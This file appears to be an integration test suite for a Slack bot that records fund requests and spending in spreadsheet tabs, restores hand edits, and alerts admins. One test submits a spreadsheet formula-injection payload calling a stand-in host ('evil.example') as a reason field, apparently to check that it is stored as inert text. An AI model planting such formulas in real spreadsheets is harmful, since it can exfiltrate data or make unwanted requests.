// R20 through the real process: what is done in Slack stands in the tabs of a spreadsheet, whatever people do to it there.
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { FUNDS_TAB, LEDGER_TAB } from '../../src/areas/sheets/tabs.ts';
import { addJob } from '../../src/db/outbox.ts';
import { POLICY, TEAM } from '../support/bot.ts';
import { type Desk, deskOf, type Thing } from '../support/desk.ts';
import { type FakeSheets, fakeSheets, put, sortTab, type Value } from '../support/sheets.ts';
import { CHANNELS, until } from '../support/slack.ts';
import { openStage, type Stage, shows } from '../support/stage.ts';

const { pia, zoe } = TEAM;
const FORMULA = '=IMPORTXML("https://evil.example","//a")';
let google: FakeSheets;
let s: Stage;
let d: Desk;
let request: Thing;
beforeAll(async () => {
  google = await fakeSheets();
  const policy = POLICY.replace('admins: C0ADMINS }', `admins: C0ADMINS, test_funds: ${CHANNELS.funds} }`).replace(
    'roles:\n',
    'roles:\n  treasurers: { users: [U0PIA] }\n',
  );
  s = await openStage({ policy, sheets: { url: google.url, id: google.id } });
  d = deskOf(s);
});
afterAll(async () => {
  await s?.close();
  await google?.stop();
});

const columnOf = (title: string, tab = FUNDS_TAB) => tab.columns.findIndex((c) => c.title === title);
const rowOf = (id: string, tab = FUNDS_TAB) =>
  google.tabs.find((t) => t.title === tab.title)?.grid.findIndex((row) => row[0] === id) ?? -1;
const cell = (id: string, title: string, tab = FUNDS_TAB): Value | undefined =>
  google.tabs.find((t) => t.title === tab.title)?.grid[rowOf(id, tab)]?.[columnOf(title, tab)];
/** Changes are folded for 10 s: the sync that waits is brought forward. */
const inSheet = (what: string, is: () => boolean) =>
  until(async () => {
    await s.db.execute(
      sql`update graphile_worker._private_jobs set run_at = now() where key = 'sheets' and locked_at is null`,
    );
    return is();
  }, what);
const sweep = () => addJob(s.db, 'sheets', { sweep: true }, { key: 'sheets:sweep' });
const admins = async () => (await s.slack.messages(CHANNELS.admins)).map(shows).filter((m) => m.includes('sheet'));

it('R20: the spreadsheet gets its tabs, and a request and a spend appear in them', async () => {
  await inSheet('the tabs', () => google.tabs.length === 4);
  await d.typed(zoe, '/funds', 'request 25 USD');
  await d.form('Request test funds');
  expect(await s.slack.submitView(zoe, { reason: FORMULA })).toBeNull();
  request = await d.thing(`FR-${await d.newest('fund_requests')}`);
  await d.typed(pia, '/funds', `approve ${request.subject}`);
  expect(await d.typed(pia, '/funds', `sent ${request.subject} wire-1 0`)).toContain('done');
  await inSheet('the request', () => cell(request.subject, 'State') === 'sent');
  expect(cell(request.subject, 'Reason')).toBe(FORMULA);
  expect(cell(request.subject, 'Outstanding (base units)')).toBe('2500');

  await request.tap(zoe, 'funds_spend');
  await d.form('Test transaction');
  expect(await s.slack.submitView(zoe, { amount: '10.5', what: 'A card payment' })).toBeNull();
  await d.form('Recorded');
  await s.slack.closeView(zoe);
  await inSheet('the spend', () => cell('TX-2/2', 'Note', LEDGER_TAB) === 'A card payment');
  await inSheet('what is left', () => cell(request.subject, 'Outstanding (base units)') === '1450');
  expect(cell(`person:${zoe} USD`, 'Amount')).toBe(14.5);
});

it('R20: what somebody changed by hand is restored by a sweep, and told; their own columns stay beside the right rows', async () => {
  await s.settled();
  const tab = google.tab(FUNDS_TAB.title);
  const width = FUNDS_TAB.columns.length;
  put(tab, rowOf(request.subject), columnOf('Amount'), 9999);
  put(tab, rowOf(request.subject), width, 'asked by phone');
  sortTab(tab, 0, true);
  expect(await admins()).toEqual([]);
  await sweep();
  await until(async () => cell(request.subject, 'Amount') === 25, 'the amount as it was');
  expect(tab.grid[rowOf(request.subject)]?.[width]).toBe('asked by phone');
  await until(async () => (await admins()).length === 1, 'the message to the admins');
  expect((await admins())[0]).toContain(`in ${request.subject}. I put them back`);
});

it('R20: what did not change is not written again', async () => {
  await s.settled();
  await inSheet('no sync that waits', () => true);
  await s.settled();
  google.calls.length = 0;
  await sweep();
  await until(async () => google.calls.some((call) => call.what === 'read'), 'the sweep');
  await s.settled();
  expect(new Set(google.calls.map((call) => call.what))).toEqual(new Set(['get', 'read']));
  expect(await admins()).toHaveLength(1);
});
